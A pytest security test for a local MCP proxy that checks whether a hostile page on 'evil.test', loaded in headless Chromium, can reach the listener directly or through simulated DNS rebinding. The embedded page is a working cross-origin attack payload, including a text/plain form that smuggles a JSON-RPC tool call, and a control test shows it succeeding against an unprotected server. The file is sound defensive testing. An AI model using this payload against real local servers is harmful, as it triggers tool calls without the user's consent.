"""A page on another origin, in Chromium, cannot reach the listener: whatever a script may send, nothing of it arrives at
the server, and the page reads nothing. DNS rebinding is played by a proxy of the test: for the page's own name it serves
the page first and is the listener afterwards."""

import json
import os
import shutil
import socket
import subprocess
import tempfile
import threading

import pytest

import harness
from mcp_servers import StreamableServer
from upstream import Upstream

CHROMIUM = next((p for n in ("chromium-headless-shell", "chromium", "google-chrome") if (p := shutil.which(n))), None)
CALL = {"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": "echo", "arguments": {"text": "from a page"}}}
HELLO = {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "page", "version": "1"}}}

PAGE = """<!doctype html><title>evil</title><body><script>
const target = TARGET, call = CALL, hello = HELLO, results = {};
const attempt = async (name, f) => {
  try {
    results[name] = await Promise.race([f(), new Promise((_, no) => setTimeout(() => no('no answer'), 3000))]);
  } catch (e) { results[name] = 'blocked: ' + e; }
};
const both = 'application/json, text/event-stream';
const post = (body, type, more) => async () => {
  const answer = await fetch(target, {method: 'POST', headers: {'Content-Type': type, ...(type === 'application/json' ? {Accept: both} : {})}, body: JSON.stringify(body), ...more});
  return answer.type + ' ' + answer.status + ' ' + await answer.text();
};
(async () => {
  for (const type of ['application/json', 'text/plain', 'application/x-www-form-urlencoded', '']) {
    await attempt('call ' + type, post(call, type, {}));
    await attempt('hello ' + type, post(hello, type, {credentials: 'include'}));
  }
  await attempt('no-cors', post(call, 'text/plain', {mode: 'no-cors'}));
  await attempt('blob', async () => (await fetch(target, {method: 'POST', mode: 'no-cors', body: new Blob([JSON.stringify(call)])})).type);
  await attempt('beacon', async () => navigator.sendBeacon(target, new Blob([JSON.stringify(call)], {type: 'text/plain'})) + '');
  await attempt('get', async () => { const a = await fetch(target, {headers: {Accept: 'text/event-stream'}}); return a.status + ''; });
  await attempt('delete', async () => (await fetch(target, {method: 'DELETE'})).status + '');
  await attempt('events', () => new Promise((yes, no) => {
    const e = new EventSource(target); e.onopen = () => yes('open'); e.onerror = () => no('error');
    e.addEventListener('endpoint', (m) => yes('endpoint ' + m.data));
  }));
  await attempt('socket', () => new Promise((yes, no) => { const w = new WebSocket(target.replace('http', 'ws')); w.onopen = () => yes('open'); w.onerror = () => no('error'); }));
  await attempt('xhr', () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.open('POST', target); x.onload = () => yes(x.status + x.responseText); x.onerror = () => no('error'); x.send(JSON.stringify(call)); }));
  await attempt('form', () => new Promise((yes) => {
    const frame = document.createElement('iframe'); frame.name = 'f'; document.body.append(frame);
    const form = document.createElement('form'); Object.assign(form, {action: target, method: 'POST', enctype: 'text/plain', target: 'f'});
    const field = document.createElement('input'); field.name = JSON.stringify(call).slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field);
    document.body.append(form); frame.onload = () => { try { yes('read ' + frame.contentDocument.body.innerText); } catch (e) { yes('blocked: ' + e); } }; form.submit();
  }));
  await attempt('script', () => new Promise((yes, no) => { const s = document.createElement('script'); s.src = target; s.onload = () => yes('loaded'); s.onerror = () => no('error'); document.body.append(s); }));
  await fetch('/report', {method: 'POST', body: JSON.stringify(results)});
})();
</script>"""


class Proxy:
    """Serves every name that Chromium asks of it: the page and its report, or, after the page was served, what `rebound`
    (a port) says for the same name."""

    def __init__(self, page, rebound=None):
        self.page, self.rebound = page, rebound
        self.report, self.done = None, threading.Event()
        self.server = Upstream(self.serve)

    def serve(self, exchange):
        target = "/" + exchange.request.target.split("://", 1)[-1].partition("/")[2]
        if target == "/report":
            self.report = json.loads(exchange.request.body)
            exchange.respond(204)
            self.done.set()
        elif target == "/page":
            exchange.respond(200, [], self.page.encode(), "text/html")
        elif self.rebound and target.startswith("/mcp"):
            self.forward(exchange, target)
        else:
            exchange.respond(404)

    def forward(self, exchange, target):
        """As if the name had been bound to the listener's address: its own Host, its own Origin."""
        request = exchange.request
        fields = [(n, v) for n, v in request.fields if not n.lower().startswith("proxy-") and n.lower() not in ("content-length", "connection")]
        head = f"{request.method} {target} HTTP/1.1\r\n" + "".join(f"{n}: {v}\r\n" for n, v in fields)
        with socket.create_connection(("127.0.0.1", self.rebound), harness.TIMEOUT) as sock:
            sock.sendall(head.encode() + f"Connection: close\r\nContent-Length: {len(request.body)}\r\n\r\n".encode() + request.body)
            sock.settimeout(3)
            try:
                while data := sock.recv(1 << 16):
                    exchange.send(data)
            except OSError:
                pass
        exchange.close()


def browse(page_url, proxy):
    """Opens the page in Chromium until it has reported."""
    with tempfile.TemporaryDirectory(prefix="chromium-", ignore_cleanup_errors=True) as home:
        process = subprocess.Popen(
            [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", f"--user-data-dir={home}",
             f"--proxy-server=http://127.0.0.1:{proxy.server.port}", "--remote-debugging-port=0", page_url],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, stdin=subprocess.DEVNULL,
        )  # fmt: skip
        try:
            assert proxy.done.wait(90), "the page did not report"
        finally:
            process.kill()
            process.wait()
    return proxy.report


def attack(port, path="/mcp", rebinding=False):
    """What the page got from each attempt; the page is of http://evil.test."""
    if not CHROMIUM:
        message = "no Chromium (Debian: chromium-headless-shell)"
        pytest.fail(message) if os.environ.get("CI") == "true" else pytest.skip(message)
    target = f"http://evil.test:{port}{path}" if rebinding else f"http://127.0.0.1:{port}{path}"
    page = PAGE.replace("TARGET", json.dumps(target)).replace("CALL", json.dumps(CALL), 1).replace("HELLO", json.dumps(HELLO), 1)
    proxy = Proxy(page, port if rebinding else None)
    try:
        return browse(f"http://evil.test:{port}/page" if rebinding else "http://evil.test/page", proxy)
    finally:
        proxy.server.close()


def harmless(results):
    for name, result in results.items():
        refused = result.startswith(("blocked", "read ")) or "40" in result[:12] or "415" in result or "421" in result
        assert refused or name in ("beacon", "no-cors", "blob"), (name, result)
        assert "from a page" not in result and "mcp-session" not in result.lower(), (name, result)


@pytest.mark.parametrize("rebinding", [False, True], ids=["another-origin", "rebound-name"])
def test_a_page_reaches_nothing(listener, stack, rebinding):
    server = stack.enter_context(StreamableServer())
    intercept = listener(upstream=server.url)
    harmless(attack(intercept.port, rebinding=rebinding))
    assert server.requests == [] and server.toolbox.executed == []


@pytest.mark.parametrize("rebinding", [False, True], ids=["another-origin", "rebound-name"])
def test_a_server_that_checks_nothing_is_reached(stack, rebinding):
    """The neighbour: the same page against a server without Intercept. So the page is able to do harm."""
    got = []

    def naive(exchange):
        if exchange.request.method == "POST" and b"from a page" in exchange.request.body:
            got.append(exchange.request)
        exchange.respond(200, [("Access-Control-Allow-Origin", "*"), ("Access-Control-Allow-Headers", "*")], {"said": "anything"})

    server = stack.enter_context(Upstream(naive))
    results = attack(server.port, rebinding=rebinding)
    assert got, results
    if rebinding:
        assert "said" in results["call application/json"], results
